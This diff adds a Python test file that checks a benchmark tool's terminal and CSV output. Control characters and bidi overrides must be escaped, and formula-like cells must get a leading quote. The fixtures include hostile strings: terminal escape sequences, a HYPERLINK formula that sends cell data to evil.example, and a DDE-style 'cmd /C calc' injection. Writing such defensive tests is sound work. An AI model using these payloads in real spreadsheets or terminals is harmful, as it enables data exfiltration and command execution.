@@ -1,0 +1,52 @@
+"""A plugin's names and units reach the terminal and CSV files: control characters and bidirectional
+overrides are shown as escapes, and CSV cells that a spreadsheet would run start with ``'``. The
+strings are those of the hostile review (hostile10c, findings 5 and 6)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from suite.cli.common import emit
+from suite.textsafe import csv_cell, visible
+
+ANSI = "\x1b[2J\x1b[31mANSI\u202e"  # clears the screen, turns the text red, reverses the rest of the line
+RESET_UNIT = "B\x1bc\x07\u202e"  # ESC c resets the terminal, BEL rings
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_visible_writes_each_hiding_character_as_its_escape():
+    assert visible(ANSI) == "\\x1b[2J\\x1b[31mANSI\\u202e"
+    assert visible(RESET_UNIT) == "B\\x1bc\\x07\\u202e"
+    assert visible("a\rb\x9bc\u2066d\u2069") == "a\\x0db\\x9bc\\u2066d\\u2069"
+    # what built-in names hold stays as it is: letters, '*', '-', '/', a µ, a line break, a tab
+    for text in ("ddp-equal-batch*", "samples/s", "37 µs", "two\nlines", "a\tb", "Gbit/s ≥ 10"):
+        assert visible(text) == text
+
+
+def test_table_shows_a_variants_escape_sequence_as_text(capsys):
+    emit([{"technique": "evil", "variant": ANSI, "unit": RESET_UNIT}], "table")
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out
+    assert "\\x1b[2J\\x1b[31mANSI\\u202e" in out
+    assert "B\\x1bc\\x07\\u202e" in out
+
+
+def test_csv_cells_that_a_spreadsheet_runs_start_with_a_quote(capsys):
+    rows = [{"variant": LINK, "param.x": "@SUM(1+1)*cmd|' /C calc'!A0", "value": -1.5, "text": "-1.5",
+             "name": "+cmd", "tab": "\tx", "plain": "ring"}]
+    emit(rows, "csv")
+    (got,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert got == {"variant": "'" + LINK, "param.x": "'@SUM(1+1)*cmd|' /C calc'!A0", "value": "-1.5",
+                   "text": "-1.5", "name": "'+cmd", "tab": "'\tx", "plain": "ring"}
+
+
+def test_results_show_csv_quotes_formulas_and_escapes_controls(capsys):
+    from suite.cli.results import _show
+
+    rows = [{"variant": LINK, "param.variant": "=1+1", "comm_bytes": 112e6, "delta": -2.0}]
+    _show({"id": 1}, rows, list(rows[0]), "csv", units={"comm_bytes": RESET_UNIT})
+    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert lines[0] == ["variant", "param.variant", "comm_bytes [B\\x1bc\\x07\\u202e]", "delta"]
+    assert lines[1] == ["'" + LINK, "'=1+1", "112000000.0", "-2.0"]
+    assert csv_cell(-1.5) == -1.5 and csv_cell("+3") == "+3" and csv_cell("-inf") == "-inf"
